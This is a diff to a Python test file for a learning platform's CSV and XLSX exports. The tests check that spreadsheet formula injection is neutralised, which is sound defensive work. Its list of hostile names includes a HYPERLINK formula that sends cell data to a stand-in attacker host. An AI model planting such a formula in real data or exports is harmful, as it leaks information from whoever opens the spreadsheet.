@@ -12,8 +12,8 @@ import zipfile
 
 import pytest
 
-from lms.services.exports import FORMULA_STARTS, csv_text, safe_cell
-from tests.factories import make_cohort, make_user
+from lms.services.exports import FORMULA_STARTS, XLSX_MIMETYPE, csv_text, safe_cell, xlsx_bytes
+from tests.factories import enrol, make_cohort, make_user
 
 HOSTILE = [
     '=HYPERLINK("http://evil.example/?leak="&A1,"x")',
@@ -39,10 +39,30 @@ def _own_records(viewer, names):
     return "/account/records.zip"
 
 
+def _figures(kind):
+    """The programme figures: the names stand as organisations (the figures list each one)."""
+
+    def make(viewer, names):
+        for name in names:
+            enrol(make_user(organisation=name))
+        return f"/figures/{kind}"
+
+    return make
+
+
+def _learner_figures(viewer, names):
+    for name in names:
+        enrol(make_user(full_name=name))
+    return "/figures/learners.csv"
+
+
 #: endpoint -> a function (viewer, learner names) that sets up data and returns the export's URL
 EXPORTS = {
     "cohorts.matrix_csv": _progress_matrix,
     "auth.my_records": _own_records,
+    "figures.export_csv": _figures("figures.csv"),
+    "figures.export_xlsx": _figures("figures.xlsx"),
+    "figures.learners_csv": _learner_figures,
 }
 #: exports that hold no spreadsheet, so nothing in them is read as a formula
 NOT_SPREADSHEETS = {"cohorts.certificates_zip"}  # a ZIP of certificate PDFs
@@ -71,6 +91,15 @@ def _cells(response) -> list[list[str]]:
             for name in archive.namelist()
             for row in csv.reader(io.StringIO(archive.read(name).decode("utf-8-sig"), newline=""))
         ]
+    if response.mimetype == XLSX_MIMETYPE:
+        from openpyxl import load_workbook
+
+        book = load_workbook(io.BytesIO(response.get_data()), read_only=True)
+        return [
+            ["" if cell is None else str(cell) for cell in row]
+            for sheet in book
+            for row in sheet.iter_rows(values_only=True)
+        ]
     raise AssertionError(f"an export of an unknown type: {response.mimetype}")
 
 
@@ -84,10 +113,20 @@ def test_hostile_names_are_neutralised_and_normal_names_untouched(
     cells = [cell for row in rows for cell in row]
     for cell in cells:
         assert not cell.startswith(FORMULA_STARTS), f"a formula reaches the spreadsheet: {cell!r}"
-    for name in HOSTILE:
-        assert "'" + name in cells, name
+    for name in HOSTILE:  # (XML, so XLSX, reads a carriage return back as a line feed)
+        assert "'" + name in cells or ("'" + name).replace("\r", "\n") in cells, name
     for name in NORMAL:
         assert name in cells, name
+
+
+def test_an_xlsx_holds_no_formula():
+    from openpyxl import load_workbook
+
+    book = load_workbook(io.BytesIO(xlsx_bytes([("Sheet", [HOSTILE, [-2, 1.5, None]])])))
+    cells = [cell for row in book.active.iter_rows() for cell in row]
+    assert all(cell.data_type != "f" for cell in cells)
+    shown = [c.value for c in cells[: len(HOSTILE)]]
+    assert shown == ["'" + v.replace("\r", "\n") for v in HOSTILE]
 
 
 def test_safe_cell():
